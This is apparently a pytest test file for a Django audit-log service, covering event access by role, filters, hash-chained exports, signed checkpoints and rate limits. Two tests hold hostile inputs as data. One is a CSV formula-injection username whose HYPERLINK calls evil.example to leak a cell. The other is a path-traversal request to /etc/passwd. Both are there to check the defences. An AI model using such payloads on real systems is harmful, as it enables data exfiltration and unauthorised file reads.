from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import transaction
from django.test import Client

from audits.chain import chain_head
from audits.checkpoints import verify_against_checkpoint
from audits.models import Action, AuditEvent
from audits.services import audit_event_record
from core import csvcells
from core.context import acting_as

from ..conftest import api_as

pytestmark = pytest.mark.django_db


def _model_event(model, n=1, action=Action.MODEL_UPDATED):
    for i in range(n):
        audit_event_record(action=action, object_type="registry.registeredmodel",
                           object_id=model.pk, object_repr=f"{model.name} change {i}",
                           model_id=model.pk, model_name=model.name,
                           before={"retention_days": 365}, after={"retention_days": 30 + i})


def test_auditors_page_through_every_event(personas):
    _model_event(personas.model, 120)
    client = api_as(personas.auditor)
    seen, url = [], "/api/v1/audit/events/?page_size=50"
    while url:
        body = client.get(url).json()
        seen += [e["seq"] for e in body["results"]]
        url = body["next"]
    total = AuditEvent.objects.count()
    assert seen == sorted(seen, reverse=True) and len(seen) == len(set(seen)) == total
    assert body["chain_head"]["hash"] == chain_head()[1]


def test_model_scoped_users_see_only_their_models_events(personas):
    _model_event(personas.model, 2)
    _model_event(personas.other_model, 3)
    events = api_as(personas.pi).get("/api/v1/audit/events/?page_size=500").json()["results"]
    assert events and {e["model"] for e in events} == {personas.model.name}
    other = AuditEvent.objects.filter(model_id=personas.other_model.pk).first()
    assert api_as(personas.pi).get(f"/api/v1/audit/events/{other.pk}/").status_code == 404
    assert api_as(personas.auditor).get(f"/api/v1/audit/events/{other.pk}/").status_code == 200


@pytest.mark.parametrize("persona", ["clinician", "reviewer", "outsider", "viewer_other"])
def test_users_without_view_audit_are_refused(personas, persona):
    client = api_as(personas.get(persona))
    for url in ("/api/v1/audit/events/", "/api/v1/audit/export/?format=csv",
                "/api/v1/audit/verify/"):
        assert client.get(url).status_code == 403, url


def test_filters_narrow_the_list(personas):
    _model_event(personas.model, 3)
    with acting_as(personas.owner):
        _model_event(personas.model, 1, action=Action.MODEL_CREATED)
    client = api_as(personas.auditor)
    by_action = client.get(f"/api/v1/audit/events/?model={personas.model.name}"
                           f"&action={Action.MODEL_UPDATED}").json()["results"]
    assert len(by_action) == 3
    by_actor = client.get("/api/v1/audit/events/?actor=owner&page_size=500").json()["results"]
    assert len(by_actor) == 1 and by_actor[0]["actor"] == "owner"
    assert client.get("/api/v1/audit/events/?since=2999-01-01").json()["results"] == []
    assert len(client.get("/api/v1/audit/events/?until=2999-01-01&page_size=500")
               .json()["results"]) == AuditEvent.objects.count()


@pytest.mark.parametrize("query,field", [("since=yesterday", "since"), ("action=made.up", "action"),
                                         ("model=nope", "model"), ("cursor=abc", "cursor"),
                                         ("version=2", "version"), ("page_size=x", "page_size")])
def test_bad_filters_are_structured_400s(personas, query, field):
    response = api_as(personas.auditor).get(f"/api/v1/audit/events/?{query}")
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == field


def test_event_detail_shows_the_before_after_diff(personas):
    _model_event(personas.model, 1)
    event = AuditEvent.objects.filter(action=Action.MODEL_UPDATED).get()
    body = api_as(personas.owner).get(f"/api/v1/audit/events/{event.pk}/").json()
    assert body["diff"] == [{"key": "retention_days", "before": 365, "after": 30, "changed": True}]
    assert body["hash"] == event.hash


def test_csv_export_carries_the_chain_head_and_is_itself_recorded(personas):
    _model_event(personas.model, 5)
    head = chain_head()
    response = api_as(personas.auditor).get(
        f"/api/v1/audit/export/?format=csv&model={personas.model.name}")
    assert response.status_code == 200
    assert response["X-Attest-Chain-Head"] == f"{head[0]} {head[1]}"
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == AuditEvent.objects.filter(model_id=personas.model.pk,
                                                  seq__lte=head[0]).count()
    assert all(len(r["hash"]) == 64 for r in rows)
    exported = AuditEvent.objects.filter(action=Action.AUDIT_EXPORTED).get()
    assert exported.actor == personas.auditor and exported.details["format"] == "csv"


def test_json_export_is_valid_json_with_the_head(personas):
    _model_event(personas.model, 3)
    response = api_as(personas.owner).get("/api/v1/audit/export/?format=json")
    document = json.loads(b"".join(response.streaming_content))
    assert document["chain_head"]["seq"] >= len(document["events"]) > 0
    assert {e["model"] for e in document["events"]} == {personas.model.name}
    assert api_as(personas.owner).get("/api/v1/audit/export/?format=xml").status_code == 400


def test_checkpoints_are_signed_by_admins_and_read_by_global_roles(personas):
    _model_event(personas.model, 2)
    created = api_as(personas.admin).post("/api/v1/audit/checkpoints/")
    assert created.status_code == 201
    assert created.json()["payload"]["head_seq"] >= 2
    for who in ("admin", "auditor"):
        listing = api_as(personas.get(who)).get("/api/v1/audit/checkpoints/").json()
        assert listing["checkpoints"] and "BEGIN PUBLIC KEY" in listing["public_key"]
    for who in ("auditor", "owner"):  # auditors check the server's checkpoints, not make them
        refused = api_as(personas.get(who)).post("/api/v1/audit/checkpoints/")
        assert refused.status_code == 403 and refused.json()["errors"][0]["code"] == \
            "permission_denied"
    assert AuditEvent.objects.filter(action=Action.AUDIT_CHECKPOINT).count() == 1


def test_the_pages_list_filter_and_show_events(personas):
    _model_event(personas.model, 60)
    client = Client()
    client.force_login(personas.auditor)
    page = client.get("/audit/")
    assert page.status_code == 200 and b"Older events" in page.content
    filtered = client.get(f"/audit/?model={personas.model.name}&action={Action.MODEL_UPDATED}")
    assert filtered.status_code == 200
    bad = client.get("/audit/?since=notadate")
    assert bad.status_code == 200 and b"Use an ISO date" in bad.content
    event = AuditEvent.objects.filter(action=Action.MODEL_UPDATED).first()
    detail = client.get(f"/audit/events/{event.pk}/")
    assert detail.status_code == 200 and b"retention_days" in detail.content
    assert client.get("/audit/export/?format=csv").status_code == 200
    verify = client.get("/audit/verify/")
    assert b"The hash chain is intact" in verify.content
    assert b"Sign a checkpoint now" not in verify.content  # an auditor
    assert client.post("/audit/checkpoints/new/").status_code == 302
    assert not AuditEvent.objects.filter(action=Action.AUDIT_CHECKPOINT).exists()
    admin = Client()
    admin.force_login(personas.admin)
    assert b"Sign a checkpoint now" in admin.get("/audit/verify/").content
    created = admin.post("/audit/checkpoints/new/")
    assert created.status_code == 302
    key = AuditEvent.objects.filter(action=Action.AUDIT_CHECKPOINT).get().details["storage_key"]
    download = client.get(f"/audit/checkpoints/{key}")
    assert download.status_code == 200 and b"signature" in download.content
    assert client.get("/audit/checkpoints/audit-checkpoints/../../etc/passwd").status_code == 404


def test_pages_refuse_users_without_view_audit(personas):
    client = Client()
    client.force_login(personas.clinician)
    response = client.get("/audit/")
    assert response.status_code == 302
    assert client.get("/audit/verify/").status_code == 302
    outsider = Client()
    outsider.force_login(personas.pi)
    other = AuditEvent.objects.filter(model_id=personas.other_model.pk).first()
    assert outsider.get(f"/audit/events/{other.pk}/").status_code == 404


EXTREME = "9999-12-31T23:59:59-23:59"  # year 10000 once in UTC


@pytest.mark.parametrize("param", ["since", "until"])
def test_a_moment_past_year_9999_in_utc_is_a_400_not_a_500(personas, param):
    client = api_as(personas.auditor)
    response = client.get("/api/v1/audit/events/", {param: EXTREME})
    assert response.status_code == 400
    assert response.json()["errors"][0] == {
        "field": param, "code": "invalid_date", "message": response.json()["errors"][0]["message"]}
    page = Client()
    page.force_login(personas.auditor)
    listed = page.get("/audit/", {param: EXTREME})
    assert listed.status_code == 200 and b"outside the years 1 to 9999" in listed.content


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_with_a_bad_date_is_refused_before_it_starts_and_not_recorded(personas, fmt):
    client = api_as(personas.auditor)
    response = client.get("/api/v1/audit/export/", {"format": fmt, "until": EXTREME})
    assert response.status_code == 400 and not response.streaming
    assert response.json()["errors"][0]["code"] == "invalid_date"
    page = Client()
    page.force_login(personas.auditor)
    assert page.get("/audit/export/", {"format": fmt, "since": EXTREME}).status_code == 302
    assert not AuditEvent.objects.filter(action=Action.AUDIT_EXPORTED).exists()


def test_an_export_whose_query_fails_answers_an_error_before_streaming(personas, monkeypatch):
    """A query that fails when it runs (here: a column that does not exist) is a JSON
    500, not a 200 whose file stops short; and no export is recorded."""
    from audits import export

    real = export.audit_event_queryset
    monkeypatch.setattr(export, "audit_event_queryset", lambda **kw: real(**kw).extra(
        where=["no_such_column = 1"]))
    recorded = []
    monkeypatch.setattr(export, "audit_event_record", lambda **kw: recorded.append(kw))
    client = api_as(personas.auditor)
    client.raise_request_exception = False
    with transaction.atomic():  # PostgreSQL: the failed statement aborts up to here only
        response = client.get("/api/v1/audit/export/", {"format": "json"})
        transaction.set_rollback(True)
    assert response.status_code == 500 and not response.streaming
    assert response.json()["errors"][0]["code"] == "server_error"
    assert recorded == []  # the export was not recorded as made


def test_a_typed_username_cannot_become_a_formula_in_the_csv_export(personas):
    """A failed sign-in records what was typed; the CSV writes it as text."""
    typed = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    Client().post("/login/", {"username": typed, "password": "wrong"})
    response = api_as(personas.auditor).get("/api/v1/audit/export/", {
        "format": "csv", "action": Action.LOGIN_FAILED})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["object_repr"] for r in rows] == ["'" + typed]
    assert not any(value.startswith(csvcells.FORMULA_STARTS) for r in rows
                   for value in r.values())
    document = json.loads(b"".join(api_as(personas.auditor).get("/api/v1/audit/export/", {
        "format": "json", "action": Action.LOGIN_FAILED}).streaming_content))
    assert document["events"][0]["object_repr"] == typed  # the JSON keeps the exact text


def test_verify_and_checkpoints_are_rate_limited_per_user(personas, settings):
    settings.ATTEST_AUDIT_VERIFY_RATE = "2/hour"
    settings.ATTEST_AUDIT_CHECKPOINT_RATE = "1/hour"
    auditor = api_as(personas.auditor)
    assert [auditor.get("/api/v1/audit/verify/").status_code for _ in range(2)] == [200, 200]
    refused = auditor.get("/api/v1/audit/verify/")
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    assert refused.json()["errors"][0]["code"] == "throttled"
    page = Client()
    page.force_login(personas.auditor)
    shown = page.get("/audit/verify/")  # the page counts with the API
    assert shown.status_code == 429 and b"Try again in" in shown.content
    assert api_as(personas.owner).get("/api/v1/audit/verify/").status_code == 200  # per user
    admin = api_as(personas.admin)
    assert admin.post("/api/v1/audit/checkpoints/").status_code == 201
    assert admin.post("/api/v1/audit/checkpoints/").status_code == 429
    assert admin.get("/api/v1/audit/checkpoints/").status_code == 200  # reading is not limited
    admin_page = Client()
    admin_page.force_login(personas.admin)
    admin_page.post("/audit/checkpoints/new/")
    assert AuditEvent.objects.filter(action=Action.AUDIT_CHECKPOINT).count() == 1


def test_auditors_keep_the_latest_signed_checkpoint(personas):
    """Signing on demand is for administrators; what auditors keep elsewhere is the
    newest checkpoint the server signed."""
    assert api_as(personas.auditor).get(
        "/api/v1/audit/checkpoints/latest/").status_code == 404  # none yet
    created = api_as(personas.admin).post("/api/v1/audit/checkpoints/").json()
    latest = api_as(personas.auditor).get("/api/v1/audit/checkpoints/latest/").json()
    assert latest["payload"] == created["payload"]
    assert latest["storage_key"] == created["storage_key"]
    assert verify_against_checkpoint(json.dumps(
        {"payload": latest["payload"], "signature": latest["signature"]}).encode()).ok
    assert api_as(personas.owner).get("/api/v1/audit/checkpoints/latest/").status_code == 403
